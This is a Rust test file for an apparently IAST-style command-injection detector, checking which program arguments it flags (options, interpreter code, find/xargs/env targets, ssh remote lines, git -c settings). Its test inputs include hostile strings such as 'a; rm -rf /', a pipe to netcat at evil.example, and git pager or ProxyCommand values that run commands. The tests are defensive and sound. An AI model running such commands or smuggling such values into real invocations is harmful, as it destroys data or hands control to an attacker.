//! Argument vectors on real commands: an element passed without a shell is data, reported only
//! when it can be an option, when the program runs it as code or as a command, or when it is
//! the program.

use iast::{Confidence, Report, Vulnerability};
use iast_sinks::process::{CommandExt, check_std_command};
use std::process::Command;

#[iast::source(origin = "test.attacker")]
fn attacker(value: &str) -> String {
    value.to_owned()
}

const COMMAND_SINK: &str = "iast_sinks::process::check_command";

/// Asserts that the report's only finding is a command injection at the process sink, in the
/// sink argument `argument`, with `tainted` marked and, if given, of `confidence`.
#[track_caller]
fn assert_reported(report: &Report, argument: &str, tainted: &str, confidence: Option<Confidence>) {
    assert_eq!(report.findings().len(), 1, "{report}");
    let finding = &report.findings()[0];
    assert_eq!(
        finding.vulnerability(),
        Vulnerability::CommandInjection,
        "{report}"
    );
    assert_eq!(finding.sink().function(), COMMAND_SINK, "{report}");
    assert_eq!(finding.evidence().argument, argument, "{report}");
    assert!(
        finding.evidence().tainted_text().any(|t| t == tainted),
        "{tainted:?} not marked in {report}"
    );
    if let Some(confidence) = confidence {
        assert_eq!(finding.confidence(), confidence, "{report}");
    }
}

/// Asserts that the command sink was reached and reported nothing.
#[track_caller]
fn assert_clean(report: &Report) {
    iast::assert_no_findings!(report);
    assert!(
        report
            .sinks_reached()
            .iter()
            .any(|s| s.function() == COMMAND_SINK),
        "{report}"
    );
}

#[test]
fn a_plain_element_is_data_whatever_it_holds() {
    for value in [
        "Robert Tables",
        "a; rm -rf /",
        "$(id) and `id`",
        "x | nc evil.example 1234",
        "'; DROP TABLE users; --",
        "name=--output=/tmp/x",
    ] {
        let mut output = None;
        let report = iast::check(|| {
            let name = attacker(value);
            output = Some(
                Command::new("printf")
                    .arg("%s")
                    .arg(&name)
                    .output_checked()
                    .unwrap(),
            );
        });
        assert_clean(&report);
        // No shell read it: printf printed the bytes as they are.
        assert_eq!(output.unwrap().stdout, value.as_bytes());
    }
}

#[test]
fn a_value_the_program_attached_to_its_option_is_data() {
    let report = iast::check(|| {
        let name = attacker("--output=/tmp/x");
        let output = Command::new("printf")
            .arg("%s")
            .arg(format!("--name={name}"))
            .output_checked()
            .unwrap();
        assert_eq!(output.stdout, b"--name=--output=/tmp/x");
    });
    assert_clean(&report);
}

#[test]
fn an_element_that_can_be_an_option_is_confirmed() {
    let report = iast::check(|| {
        let name = attacker("--output=/tmp/x");
        Command::new("printf")
            .arg("%s")
            .arg(&name)
            .output_checked()
            .unwrap();
    });
    assert_reported(
        &report,
        "args",
        "--output=/tmp/x",
        Some(Confidence::Confirmed),
    );
}

#[test]
fn after_the_end_of_options_it_is_data_again() {
    let dir = tempfile::tempdir().unwrap();
    let report = iast::check(|| {
        let name = attacker("--output=/tmp/x");
        let output = Command::new("ls")
            .args(["-d", "--"])
            .arg(&name)
            .current_dir(dir.path())
            .output_checked()
            .unwrap();
        // ls took it for a file name, not for an option it does not have.
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(stderr.contains("No such file"), "{stderr}");
    });
    assert_clean(&report);
}

#[test]
fn a_tainted_program_is_confirmed() {
    let report = iast::check(|| {
        let program = attacker("/usr/bin/printf");
        let output = Command::new(&program).arg("hi").output_checked().unwrap();
        assert_eq!(output.stdout, b"hi");
    });
    assert_reported(
        &report,
        "program",
        "/usr/bin/printf",
        Some(Confidence::Confirmed),
    );
}

#[test]
fn interpreter_code_is_reported() {
    // The interpreters may be missing on a machine: the check comes first either way.
    let report = iast::check(|| {
        let code = attacker("print('hello')");
        let _ = Command::new("python3")
            .arg("-c")
            .arg(&code)
            .output_checked();
    });
    assert_reported(
        &report,
        "code",
        "print('hello')",
        Some(Confidence::Confirmed),
    );

    let report = iast::check(|| {
        let code = attacker("print qq(hello)");
        let _ = Command::new("perl").arg("-le").arg(&code).output_checked();
    });
    assert_reported(&report, "code", "print qq(hello)", None);

    // Data inside the program's own string literal still reaches the code.
    let report = iast::check(|| {
        let name = attacker("Robert Tables");
        let _ = Command::new("python3")
            .arg("-c")
            .arg(format!("print('{name}')"))
            .output_checked();
    });
    assert_reported(
        &report,
        "code",
        "Robert Tables",
        Some(Confidence::Unsanitized),
    );

    // The arguments after the code are data for it.
    let report = iast::check(|| {
        let name = attacker("a; rm -rf /");
        let _ = Command::new("python3")
            .args(["-c", "import sys; print(sys.argv[1])"])
            .arg(&name)
            .output_checked();
    });
    assert_clean(&report);
}

#[test]
fn commands_run_by_other_programs_are_reported() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("notes.txt"), "notes").unwrap();
    let report = iast::check(|| {
        let program = attacker("/usr/bin/true");
        let status = Command::new("find")
            .arg(".")
            .arg("-exec")
            .arg(&program)
            .args(["{}", ";"])
            .current_dir(dir.path())
            .status_checked()
            .unwrap();
        assert!(status.success());
    });
    assert_reported(
        &report,
        "program",
        "/usr/bin/true",
        Some(Confidence::Confirmed),
    );

    let report = iast::check(|| {
        let program = attacker("/usr/bin/true");
        let status = Command::new("xargs")
            .arg(&program)
            .status_checked()
            .unwrap();
        assert!(status.success());
    });
    assert_reported(
        &report,
        "program",
        "/usr/bin/true",
        Some(Confidence::Confirmed),
    );

    let report = iast::check(|| {
        let program = attacker("/usr/bin/true");
        let status = Command::new("env")
            .arg("LC_ALL=C")
            .arg(&program)
            .status_checked()
            .unwrap();
        assert!(status.success());
    });
    assert_reported(
        &report,
        "program",
        "/usr/bin/true",
        Some(Confidence::Confirmed),
    );

    // The command's own arguments follow its own rules: data for printf, a line for sh -c.
    let report = iast::check(|| {
        let name = attacker("a; rm -rf /");
        let output = Command::new("env")
            .args(["printf", "%s"])
            .arg(&name)
            .output_checked()
            .unwrap();
        assert_eq!(output.stdout, b"a; rm -rf /");
    });
    assert_clean(&report);
    let report = iast::check(|| {
        let line = attacker("echo one; echo two");
        let output = Command::new("xargs")
            .args(["sh", "-c"])
            .arg(&line)
            .output_checked()
            .unwrap();
        assert_eq!(output.stdout, b"one\ntwo\n");
    });
    assert_reported(
        &report,
        "script",
        "echo one; echo two",
        Some(Confidence::Confirmed),
    );
}

#[test]
fn an_ssh_remote_command_is_a_shell_line() {
    // Checked without running: ssh would try to reach the host.
    let report = iast::check(|| {
        let line = attacker("uptime; id");
        let mut command = Command::new("ssh");
        command.arg("backup.example").arg(&line);
        check_std_command(&command);
    });
    assert_reported(&report, "script", "uptime; id", Some(Confidence::Confirmed));

    let report = iast::check(|| {
        let host = attacker("backup.example");
        let mut command = Command::new("ssh");
        command.args(["-p", "2222"]).arg(&host).arg("uptime");
        check_std_command(&command);
    });
    assert_clean(&report);
}

#[test]
fn settings_are_reported_when_the_taint_names_them_or_their_value_runs() {
    // Checked without running: git would look for a repository.
    let check = |args: &[String]| {
        let mut command = Command::new("git");
        command.args(args);
        check_std_command(&command);
    };
    let report = iast::check(|| {
        let name = attacker("Robert Tables");
        check(&["-c".into(), format!("user.name={name}"), "commit".into()]);
    });
    assert_clean(&report);

    let report = iast::check(|| {
        let setting = attacker("core.pager=sh -c id");
        check(&["-c".into(), setting, "log".into()]);
    });
    assert_reported(&report, "script", "core.pager=sh -c id", None);

    let report = iast::check(|| {
        let command = attacker("ssh -o ProxyCommand=id");
        check(&[
            "-c".into(),
            format!("core.sshCommand={command}"),
            "fetch".into(),
        ]);
    });
    assert_reported(&report, "script", "ssh -o ProxyCommand=id", None);

    let report = iast::check(|| {
        let setting = attacker("user.email=x@example");
        check(&["-c".into(), setting, "commit".into()]);
    });
    assert_reported(
        &report,
        "settings",
        "user.email=x@example",
        Some(Confidence::Confirmed),
    );
}
